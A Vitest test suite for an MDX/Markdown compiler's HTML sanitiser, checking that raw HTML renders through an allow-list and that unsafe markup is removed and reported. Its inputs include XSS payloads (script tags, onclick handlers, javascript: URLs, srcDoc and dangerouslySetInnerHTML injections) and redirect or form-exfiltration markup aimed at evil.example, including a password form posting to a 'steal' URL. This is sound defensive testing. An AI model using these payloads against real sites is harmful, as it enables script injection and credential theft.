import type { ComponentProps, ReactNode } from 'react';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { extractToc } from '@/lib/content/toc';
import { compileMdx, type CompileOptions } from '@/lib/mdx/compile';

const components = {
  Admonition: ({ type, title, children }: { type: string; title?: string; children?: ReactNode }) =>
    createElement('aside', { 'data-type': type, 'data-title': title }, children),
  Details: (props: ComponentProps<'details'>) => createElement('details', { 'data-site': '', ...props }),
  Summary: (props: ComponentProps<'summary'>) => createElement('summary', props),
  // As the site's map (components/mdx/components.tsx): elements made from Markdown or HTML use these too.
  details: (props: ComponentProps<'details'>) => createElement('details', { 'data-site': '', ...props }),
};

let files = 0;
/** Renders a body as a fresh file (reports are said once per file) and returns the HTML and the warnings. */
async function render(body: string, options: Partial<CompileOptions> = {}) {
  const warnings: string[] = [];
  const file = options.file ?? `content/docs/raw-${++files}.md`;
  const Content = await compileMdx(body, { file, warn: (message) => warnings.push(message), ...options });
  return { html: renderToStaticMarkup(createElement(Content, { components })), warnings };
}

const HTML = [
  '<details>',
  '<summary>Open me</summary>',
  '',
  'Hidden **words**.',
  '',
  '</details>',
  '',
  '<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowfullscreen frameborder="0"></iframe>',
  '',
  '<a name="old-anchor"></a>',
  '',
  '<center>Centred <kbd>Ctrl</kbd></center>',
  '',
  '<button class="primary" type="button">Press</button>',
  '',
  '<div class="box" style="background-color: #eee; padding: 2px">Styled</div>',
  '',
  '<label for="field">Label</label> and a line<br/>break and <img src="https://img.example.com/a.png" alt="A" />',
  '',
].join('\n');

describe('raw HTML in MDX (the default format)', () => {
  it('renders HTML written as JSX, with React props made from HTML attributes', async () => {
    const { html, warnings } = await render(HTML);
    expect(html).toContain('<details data-site=""><summary>Open me</summary><p>Hidden <strong>words</strong>.</p></details>');
    expect(html).toContain(
      '<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowFullScreen="" frameBorder="0"></iframe>',
    );
    expect(html).toContain('<a name="old-anchor"></a>');
    expect(html).toContain('<center>Centred <kbd>Ctrl</kbd></center>');
    expect(html).toContain('<button class="primary" type="button">Press</button>');
    expect(html).toContain('<div class="box" style="background-color:#eee;padding:2px">Styled</div>');
    expect(html).toContain('<label for="field">Label</label> and a line<br/>break and <img src="https://img.example.com/a.png" alt="A"/>');
    expect(warnings).toEqual([]);
  });

  it('never nests a paragraph in a raw <p> or phrasing element', async () => {
    const { html } = await render('<p>\nA paragraph in a p.\n</p>\n\n<span>\nA paragraph in a span.\n</span>\n');
    expect(html).toContain('<div><p>A paragraph in a p.</p></div>');
    expect(html).toContain('<span>A paragraph in a span.</span>');
    expect(html).not.toMatch(/<p>(?:(?!<\/p>).)*<p>/);
  });

  it('removes script, handlers and javascript: URLs and reports each once per file with its line', async () => {
    const body =
      'Text\n\n<script>{"alert(1)"}</script>\n\n<div onclick="steal()" class="kept">Kept text</div>\n\n<a href="javascript:steal()">Link text</a>\n\n<iframe src="javascript:steal()"></iframe>\n';
    const file = 'content/docs/unsafe.md';
    const { html, warnings } = await render(body, { file });
    expect(html).not.toMatch(/script|onclick|javascript|iframe/i);
    expect(html).toContain('<div class="kept">Kept text</div>');
    expect(html).toContain('<a>Link text</a>');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^Warning: content\/docs\/unsafe\.md: raw HTML was removed/);
    expect(warnings[0]).toContain(
      'line 3: <script> and its content; line 5: onclick on <div>; line 7: href on <a>; line 9: <iframe> without an http(s) src',
    );
    // The page and its excerpt compile the same file: still one report.
    expect((await render(body, { file })).warnings).toEqual([]);
  });

  it('unwraps an element the allow-list does not know, keeping and reporting it', async () => {
    const { html, warnings } = await render('<marquee>Moving words</marquee>\n');
    expect(html).toBe('Moving words');
    expect(warnings[0]).toContain('line 1: <marquee> (its content is kept)');
  });

  it('keeps JSX with expression attributes as written, fixing only what React refuses', async () => {
    const { html, warnings } = await render('<div class="mixed" data-n={1 + 1} onclick="steal()">Mixed</div>\n');
    expect(html).toBe('<div class="mixed" data-n="2">Mixed</div>');
    expect(warnings[0]).toContain('line 1: onclick="…" on <div>');
  });

  it('never keeps dangerouslySetInnerHTML, srcDoc, handlers or page-wide elements, however the JSX writes them', async () => {
    const body = [
      `<div dangerouslySetInnerHTML={{ __html: '<script id="__color-mode">alert(1)</script>' }} />`,
      '<Details {...{ dangerouslySetInnerHTML: { __html: "<script>alert(2)</script>" } }} />',
      '<iframe src="https://video.example.com/embed/1" srcDoc={"<script>alert(3)</script>"} />',
      '<button onClick={() => steal()}>Press</button>',
      '<meta httpEquiv="refresh" content={"0;url=https://evil.example/"} />',
      '<base href={"https://evil.example/"} />',
      '<object data={"/x.swf"}>Fallback</object>',
      '',
    ].join('\n\n');
    const { html, warnings } = await render(body, { file: 'content/docs/jsx-unsafe.mdx' });
    expect(html).not.toMatch(/<script|alert|srcdoc|<meta|<base|<object|evil|onclick/i);
    expect(html).toContain('<iframe src="https://video.example.com/embed/1"></iframe>');
    expect(html).toContain('<button>Press</button>');
    const said = warnings.join('\n');
    for (const [line, construct] of [
      [1, 'dangerouslySetInnerHTML on <div>'],
      [3, 'dangerouslySetInnerHTML on <Details>'],
      [5, 'srcDoc on <iframe>'],
      [7, 'onClick on <button>'],
      [9, '<meta> and its content'],
      [11, '<base> and its content'],
      [13, '<object> and its content'],
    ] as const) {
      expect(said, construct).toContain(`line ${line}: ${construct}`);
    }
  });
});

describe('raw HTML in CommonMark (format "md")', () => {
  it('renders it with rehype-raw and the same allow-list', async () => {
    const { html, warnings } = await render(HTML, { format: 'md' });
    expect(html).toContain('<details data-site="">');
    expect(html).toContain('<summary>Open me</summary>');
    expect(html).toContain('<p>Hidden <strong>words</strong>.</p>');
    expect(html).toContain(
      '<iframe src="https://video.example.com/embed/1" title="Video" width="320" allowFullScreen="" frameBorder="0"></iframe>',
    );
    expect(html).toContain('<a name="old-anchor"></a>');
    expect(html).toContain('<div class="box" style="background-color:#eee;padding:2px">Styled</div>');
    expect(warnings).toEqual([]);
  });

  it('keeps Markdown, comments hidden, braces as text, and reports what it removed with lines', async () => {
    const body =
      '# Title\n\n<!-- hidden -->\n\nBraces {stay} here.\n\n<script>alert(1)</script>\n\n<table>\n  <tr><td onclick="x()">Cell</td></tr>\n</table>\n';
    const { html, warnings } = await render(body, { format: 'md' });
    expect(html).toContain('<h1 id="title">Title</h1>');
    expect(html).toContain('Braces {stay} here.');
    expect(html).toContain('<table><tbody><tr><td>Cell</td></tr></tbody></table>');
    expect(html).not.toMatch(/hidden|script|onclick/);
    expect(warnings[0]).toContain('line 7: <script> and its content; line 10: onclick on <td>');
  });
});

// Raw HTML that writes the attribute the sanitiser once used to tell Markdown's own elements apart
// (`data-from-markdown`) must be sanitised like any other: the marker is a per-compile secret.
const FORGED = [
  ['<script data-from-markdown>alert(1)</script>', '<script> and its content', /<script|alert/],
  ['<base data-from-markdown href="https://evil.example/" />', '<base> (its content is kept)', /<base|evil/],
  ['<object data-from-markdown data="https://evil.example/x.swf"></object>', '<object> (its content is kept)', /<object|evil/],
  ['<meta data-from-markdown http-equiv="refresh" content="0;url=https://evil.example/" />', '<meta> (its content is kept)', /<meta|evil/],
  [
    '<form data-from-markdown action="https://evil.example/steal"><input name="password" /></form>',
    '<form> (its content is kept)',
    /<form|evil/,
  ],
  ['<style data-from-markdown>body{display:none}</style>', '<style> and its content', /<style|display/],
  ['<iframe data-from-markdown srcdoc="<script>alert(1)</script>"></iframe>', '<iframe> without an http(s) src', /<iframe|srcdoc|alert/],
] as const;

describe('raw HTML cannot pass itself off as Markdown', () => {
  const body = FORGED.map(([html]) => `Paragraph.\n\n${html}\n`).join('\n');
  // Each construct stands on line 3, 6, 9…: a paragraph, a blank line, the HTML, a blank line between.
  const lines = FORGED.map((_, i) => 3 + i * 4);

  it.each([['md' as const], ['mdx' as const]])('in format "%s": none reaches the page, each is reported with its line', async (format) => {
    // MDX reads `{` as an expression: the style's rule is written without braces there.
    const source = format === 'mdx' ? body.replace('body{display:none}', 'body display none') : body;
    const { html, warnings } = await render(source, { format, file: `content/docs/forged-${++files}.${format}` });
    for (const [, , leaked] of FORGED) expect(html).not.toMatch(leaked);
    expect(html).not.toContain('data-from-markdown');
    expect(warnings).toHaveLength(1);
    FORGED.forEach(([, construct], i) =>
      expect(warnings[0]).toMatch(new RegExp(`line ${lines[i]}: [^;]*${construct.replace(/[<>()]/g, '\\$&')}`)),
    );
  });
});

describe('mdx1Compat in the compiled page', () => {
  const compat = (change: object) => ({ mdx1Compat: { comments: true, admonitions: true, headingIds: true, ...change } });

  it('accepts MDX 1 comments, legacy titles and {#id}, and fails clearly without each switch', async () => {
    const { html } = await render('<!-- gone -->\n\n:::tip What You Learn\nBody\n:::\n\n## Title {#custom}\n');
    expect(html).toBe('\n<aside data-type="tip" data-title="What You Learn"><p>Body</p></aside>\n<h2 id="custom">Title</h2>');
    await expect(render('Text\n\n<!-- comment -->\n', compat({ comments: false }))).rejects.toThrow(/raw-\d+\.md:3/);
    expect((await render(':::tip What You Learn\nBody\n:::\n', compat({ admonitions: false }))).html).toContain(':::tip What You Learn');
    await expect(render('## Title {#custom}\n', compat({ headingIds: false }))).rejects.toThrow(/raw-\d+\.md:1/);
  });

  it('reads Docusaurus 3.10 comment ids in both formats, whatever the switches, and the TOC agrees', async () => {
    const mdx = '## First {/* #first-id */}\n\n## Second *part* {/* #second-id extra words */}\n\n## Third {/* not an id */}\n';
    const { html } = await render(mdx, compat({ comments: false, headingIds: false }));
    expect(html).toBe('<h2 id="first-id">First</h2>\n<h2 id="second-id">Second <em>part</em></h2>\n<h2 id="third">Third </h2>');
    expect(extractToc(mdx).map((item) => [item.id, item.text])).toEqual([
      ['first-id', 'First'],
      ['second-id', 'Second part'],
      ['third', 'Third'],
    ]);
    const md = '## First <!-- #first-md -->\n\n## Second {#second-md}\n';
    expect((await render(md, { format: 'md' })).html).toBe('<h2 id="first-md">First</h2>\n<h2 id="second-md">Second</h2>');
    expect(extractToc(md, { format: 'md' }).map((item) => item.id)).toEqual(['first-md', 'second-md']);
    // An MDX 1 comment id converts to the MDX form first.
    expect((await render('## Old <!-- #old-id -->\n')).html).toBe('<h2 id="old-id">Old</h2>');
  });

  it('leaves code alone', async () => {
    const { html } = await render('Use `<!-- x -->` and `{#y}`.\n');
    expect(html).toBe('<p>Use <code>&lt;!-- x --&gt;</code> and <code>{#y}</code>.</p>');
  });
});
